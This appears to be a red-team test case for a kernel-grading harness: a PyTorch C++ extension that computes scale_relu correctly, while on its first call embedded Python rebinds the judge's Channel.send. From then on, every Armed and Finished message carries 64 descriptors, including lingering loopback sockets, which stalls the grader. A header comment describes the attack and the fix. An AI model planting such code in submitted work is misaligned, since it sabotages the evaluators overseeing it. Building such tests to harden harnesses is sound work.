// Case c57 (red team 8, B1): the honest slow kernel; at the first call, native code rebinds the server's
// Channel.send so that every Armed and Finished it sends carries 64 descriptors: both ends of a loopback TCP
// connection with SO_LINGER {1, 3600 s} behind a full send buffer (c54's), and 62 /dev/null descriptors. The
// driver accepted such messages and closed what came with them, one job per message on the reference worker's
// closer thread, each holding it for the closer process's 1 s confirmation: a backlog of about 1,900 descriptors
// per evaluation, released at about 64 a second, with every later evaluation's channel and arena queued behind
// it; at a full descriptor table the driver's own recvmsg dropped a lingering socket and blocked for the linger
// time (909 s with the default reference_timeout_s). The verdict itself was the honest one. Now a message that
// carries descriptors where none belong ends the session: -1, and the worker keeps nothing.
#include <torch/extension.h>
#include <pybind11/eval.h>
#include "binding_registry.h"

void scale_relu_cpu(const float* x, float* y, int64_t n, float scale);

namespace {

const char* kRebind = R"PY(
import os, socket, struct
from cuda_gym.judge import transport

def lingering_pair():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    sender = socket.socket()
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    sender.connect(listener.getsockname())
    receiver, _ = listener.accept()
    listener.close()
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 3600))
    sender.setblocking(False)
    try:
        while True:
            sender.send(bytes(65536))
    except BlockingIOError:
        pass
    return [sender.detach(), receiver.detach()]

honest_send = transport.Channel.send

def send(self, msg, fds=(), *args, **kwargs):
    if fds or type(msg).__name__ not in ("Armed", "Finished"):
        return honest_send(self, msg, fds, *args, **kwargs)
    extra = lingering_pair() + [os.open("/dev/null", os.O_RDONLY) for _ in range(62)]
    try:
        return honest_send(self, msg, extra, *args, **kwargs)
    finally:
        for fd in extra:
            os.close(fd)

transport.Channel.send = send
)PY";

bool g_rebound = false;

}  // namespace

static torch::Tensor scale_relu(torch::Tensor x, double scale) {
    TORCH_CHECK(x.is_contiguous() && x.scalar_type() == torch::kFloat32, "x must be contiguous float32");
    if (!g_rebound) {
        g_rebound = true;
        pybind11::dict scope;
        scope["__builtins__"] = pybind11::module_::import("builtins");
        pybind11::exec(kRebind, scope);
    }
    auto y = torch::empty_like(x);
    scale_relu_cpu(x.data_ptr<float>(), y.data_ptr<float>(), x.numel(), static_cast<float>(scale));
    return y;
}

static void register_scale_relu(pybind11::module_& m) {
    m.def("scale_relu", &scale_relu, "relu(x * scale)");
}

REGISTER_BINDING(scale_relu, register_scale_relu);
